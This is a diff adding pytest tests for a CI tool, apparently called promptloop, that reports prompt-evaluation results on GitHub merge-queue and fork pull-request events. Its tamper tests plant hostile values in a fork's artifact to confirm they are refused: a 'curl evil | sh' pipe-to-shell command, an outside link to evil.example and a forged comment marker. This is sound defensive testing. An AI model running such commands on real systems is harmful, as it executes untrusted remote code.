@@ -1,0 +1,299 @@
+"""`promptloop ci` on the rest of GitHub's events, through the runner's environment
+(GITHUB_EVENT_NAME, GITHUB_EVENT_PATH) and the fake GitHub: a merge queue's group, and a
+fork's pull request whose words the base repository's `workflow_run` publishes from the
+fork run's artifact (untrusted: each tampering is refused with one line)."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from promptloop.commands.ci import CiOptions, run_ci
+from promptloop.errors import UserError
+from promptloop.github.saying import SAYING_FILE
+from promptloop.models.scripted import clear_scripts, register_script
+from tests.commands.test_ci_dry_run import planned, writes
+from tests.commands.test_ci_github import (
+    EVENTS,
+    FIXED_IN_HUNK,
+    HEAD_PROMPT,
+    PROMPT,
+    REPO,
+    TOKEN,
+    Scenario,
+    fast_client,
+    git,
+    is_summary,
+    model,
+    prompt,
+    write_event,
+)
+from tests.fakegithub import FakeGitHub
+
+FORK = "forker/prompts"
+RUN_URL = "https://github.example/octo/prompts/actions/runs/99"
+
+
+def merge_group_event(scenario: Scenario) -> dict[str, Any]:
+    payload = json.loads((EVENTS / "merge_group.checks_requested.json").read_text())
+    group = payload["merge_group"]
+    group["base_sha"], group["head_sha"] = scenario.base_sha, scenario.head_sha
+    payload["repository"]["full_name"] = REPO
+    return payload
+
+
+def test_a_merge_group_concludes_one_check_run_on_its_head_and_gates(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str]
+) -> None:
+    gh = scenario.gh
+    scenario.open_pull({PROMPT: HEAD_PROMPT})
+    write_event(scenario, merge_group_event(scenario))
+    res = scenario.run(capsys, event_name="merge_group")
+
+    assert res.code == 1
+    runs = gh.check_runs(REPO)
+    assert [(r["head_sha"], r["name"], r["conclusion"]) for r in runs] == [
+        (scenario.head_sha, "promptloop", "failure")
+    ]
+    # The group's head against its base (every case went from pass to fail), and no
+    # comment anywhere.
+    assert float(res.outputs["delta"]) == pytest.approx(-100.0)
+    assert gh.reviews(REPO, 7) == [] and gh.issue_comments(REPO) == []
+    assert not [w for w in writes(gh) if "/check-runs" not in w]
+
+
+def test_a_merge_group_that_fixes_the_prompt_passes(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str]
+) -> None:
+    scenario.open_pull({PROMPT: HEAD_PROMPT})
+    # The queue's base already asks for exclamation marks; the group's head stops it.
+    base = scenario.head_sha
+    scenario.push({PROMPT: prompt("Be calm and kind.")})
+    scenario.base_sha = base
+    write_event(scenario, merge_group_event(scenario))
+    res = scenario.run(capsys, event_name="merge_group")
+    assert res.code == 0
+    [run] = scenario.gh.check_runs(REPO)
+    assert (run["head_sha"], run["conclusion"]) == (scenario.head_sha, "success")
+    assert float(res.outputs["delta"]) == pytest.approx(100.0)
+
+
+def test_a_merge_group_dry_run_writes_nothing(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str]
+) -> None:
+    scenario.open_pull({PROMPT: HEAD_PROMPT})
+    write_event(scenario, merge_group_event(scenario))
+    res = scenario.run(capsys, event_name="merge_group", dry_run=True)
+    assert writes(scenario.gh) == []
+    [line] = planned(res.stdout)
+    assert line.startswith(f"create the check run 'promptloop' on {scenario.head_sha[:7]}")
+    assert res.code == 1
+
+
+# --- a fork's pull request, published by workflow_run ----------------------------------------
+
+
+def workflow_run_event(scenario: Scenario, **changes: Any) -> dict[str, Any]:
+    payload = json.loads((EVENTS / "workflow_run.completed.with-pull-requests.json").read_text())
+    run = payload["workflow_run"]
+    run["head_sha"] = scenario.head_sha
+    run["html_url"] = RUN_URL
+    run["event"] = "pull_request"
+    [pull] = run["pull_requests"]
+    pull["number"], pull["head"]["sha"] = scenario.number, scenario.head_sha
+    payload["repository"]["full_name"] = REPO
+    for key, value in changes.items():
+        run[key] = value
+    return payload
+
+
+def publish(
+    scenario: Scenario,
+    capsys: pytest.CaptureFixture[str],
+    results: Path,
+    payload: dict[str, Any],
+    **opts: Any,
+) -> Any:
+    write_event(scenario, payload)
+    return scenario.run(capsys, event_name="workflow_run", results_path=results, **opts)
+
+
+def fork_run(scenario: Scenario, capsys: pytest.CaptureFixture[str]) -> Path:
+    """The fork's read-only pull_request run: it gates and writes nothing to GitHub."""
+    scenario.gh.add_repo(FORK, fork_of=REPO)
+    scenario.head_repo = FORK
+    scenario.open_pull({PROMPT: HEAD_PROMPT})
+    before = writes(scenario.gh)
+    res = scenario.run(capsys)
+    assert res.code == 1 and writes(scenario.gh) == before
+    results = Path(res.outputs["results-path"])
+    assert (results.parent / SAYING_FILE).is_file()
+    return results
+
+
+def what_was_said(gh: FakeGitHub) -> dict[str, Any]:
+    [review] = gh.reviews(REPO, 7)
+    [sticky] = gh.issue_comments(REPO, 7)
+    [check] = gh.check_runs(REPO)
+    return {
+        "review": review["body"],
+        "comments": sorted((c["path"], c["line"], c["body"]) for c in gh.review_comments(REPO, 7)),
+        "summary": sticky["body"],
+        "check": (check["head_sha"], check["conclusion"], check["output"]["title"]),
+        "check_summary": check["output"]["summary"],
+    }
+
+
+def stable(said: dict[str, Any], gh: FakeGitHub) -> str:
+    """What was said, without what differs between any two runs: the time and duration
+    lines, and the fake server's address and ids in links."""
+    text = json.dumps(said, indent=1, ensure_ascii=False).replace(gh.url, "GITHUB")
+    text = re.sub(r"<sub>[^\n]*?</sub>", "<sub>…</sub>", text)
+    return re.sub(r"pullrequestreview-\d+", "pullrequestreview-N", text)
+
+
+@pytest.fixture
+def same_repo(tmp_path: Path) -> Iterator[dict[str, Any]]:
+    """What a same-repository pull request with the same change gets."""
+    with FakeGitHub() as fake:
+        fake.set_token(TOKEN)
+        fake.add_repo(REPO)
+        repo = tmp_path / "same" / "repo"
+        repo.mkdir(parents=True)
+        git(repo, "init", "-q", "-b", "main")
+        register_script("ci", model(FIXED_IN_HUNK))
+        other = Scenario(tmp_path / "same", fake, repo)
+        other.open_pull({PROMPT: HEAD_PROMPT})
+        yield {"scenario": other, "gh": fake}
+    clear_scripts()
+
+
+def test_the_fork_pair_posts_what_a_same_repository_run_would(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str], same_repo: dict[str, Any]
+) -> None:
+    results = fork_run(scenario, capsys)
+    res = publish(scenario, capsys, results, workflow_run_event(scenario))
+    assert res.code == 0, res.stderr
+    assert "::warning" not in res.stdout, res.stdout
+    fork_said = what_was_said(scenario.gh)
+
+    other: Scenario = same_repo["scenario"]
+    # The same commits, so every SHA the words name is the same.
+    assert (other.base_sha, other.head_sha) == (scenario.base_sha, scenario.head_sha)
+    assert other.run(capsys).code == 1
+    same_said = what_was_said(same_repo["gh"])
+
+    assert stable(fork_said, scenario.gh) == stable(same_said, same_repo["gh"])
+    assert any("```suggestion" in body for _, _, body in fork_said["comments"])
+    assert is_summary(fork_said["summary"]) and "FAIL" in fork_said["summary"]
+    assert "read-only" not in fork_said["summary"]
+    # A second publication of the same artifact writes nothing more.
+    before = writes(scenario.gh)
+    assert publish(scenario, capsys, results, workflow_run_event(scenario)).code == 0
+    assert writes(scenario.gh) == before
+
+
+def test_publishing_a_fork_run_dry_writes_nothing(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str]
+) -> None:
+    results = fork_run(scenario, capsys)
+    before = writes(scenario.gh)
+    res = publish(scenario, capsys, results, workflow_run_event(scenario), dry_run=True)
+    assert writes(scenario.gh) == before
+    plan = planned(res.stdout)
+    assert any(line.startswith("create a review on #7") for line in plan)
+    assert "create the summary comment on #7" in plan
+    assert any(line.startswith("create the check run 'promptloop'") for line in plan)
+
+
+def tamper(path: Path, change: Any) -> None:
+    doc = json.loads(path.read_text())
+    change(doc)
+    path.write_text(json.dumps(doc))
+
+
+def _forge_marker(doc: dict[str, Any]) -> None:
+    doc["inline"][0]["body"] += "\n\n<!-- promptloop:summary head=abc content=def -->"
+
+
+def _extra_field(doc: dict[str, Any]) -> None:
+    doc["inline"][0]["run"] = "curl evil | sh"
+
+
+def _other_head(doc: dict[str, Any]) -> None:
+    doc["head_sha"] = "1" * 40
+
+
+def _other_pull(doc: dict[str, Any]) -> None:
+    doc["number"] = 8
+
+
+def _oversized(doc: dict[str, Any]) -> None:
+    doc["notes"] = ["x" * 60_000] * 80
+
+
+def _outside_link(doc: dict[str, Any]) -> None:
+    doc["links"] = [{"label": "revision", "url": "https://evil.example/x"}]
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        (_forge_marker, "inline.0.body: refused the fork's artifact: it carries a forged"),
+        (_extra_field, "inline.0.run: refused the fork's artifact: it is not promptloop's"),
+        (_other_head, "head_sha: refused the fork's artifact: it is for commit 111111111111"),
+        (_other_pull, "number: refused the fork's artifact: it is for pull request #8"),
+        (_oversized, "the fork's saying file is 4.6 MB; promptloop reads"),
+        (_outside_link, "links.0.url: refused the fork's artifact: a link leads outside"),
+    ],
+)
+def test_a_tampered_artifact_is_refused_with_one_line(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str], change: Any, expected: str
+) -> None:
+    results = fork_run(scenario, capsys)
+    tamper(results.parent / SAYING_FILE, change)
+    before = writes(scenario.gh)
+    with pytest.raises(UserError) as info:
+        publish(scenario, capsys, results, workflow_run_event(scenario))
+    line = info.value.one_line()
+    assert expected in line and "\n" not in line
+    assert line.startswith(SAYING_FILE)
+    assert writes(scenario.gh) == before
+
+
+def test_a_run_for_another_head_is_refused(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str]
+) -> None:
+    results = fork_run(scenario, capsys)
+    payload = workflow_run_event(scenario, head_sha="2" * 40)
+    payload["workflow_run"]["pull_requests"][0]["head"]["sha"] = "2" * 40
+    with pytest.raises(UserError) as info:
+        publish(scenario, capsys, results, payload)
+    assert "it is for commit" in info.value.one_line()
+    assert scenario.gh.check_runs(REPO) == []
+
+
+def test_the_workflow_run_needs_the_artifact(
+    scenario: Scenario, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    scenario.open_pull({PROMPT: HEAD_PROMPT})
+    write_event(scenario, workflow_run_event(scenario))
+    env = {
+        "GITHUB_EVENT_PATH": str(scenario.event()),
+        "GITHUB_EVENT_NAME": "workflow_run",
+        "GITHUB_REPOSITORY": REPO,
+        "GITHUB_API_URL": scenario.gh.url,
+        "GITHUB_TOKEN": TOKEN,
+    }
+    with pytest.raises(UserError) as info:
+        run_ci(CiOptions(), env, github_factory=fast_client)
+    assert "pass --results" in info.value.one_line()
+    missing = tmp_path / "nowhere" / "results.json"
+    with pytest.raises(UserError) as info:
+        run_ci(CiOptions(results_path=missing), env, github_factory=fast_client)
+    assert "cannot read the fork's artifact" in info.value.one_line()
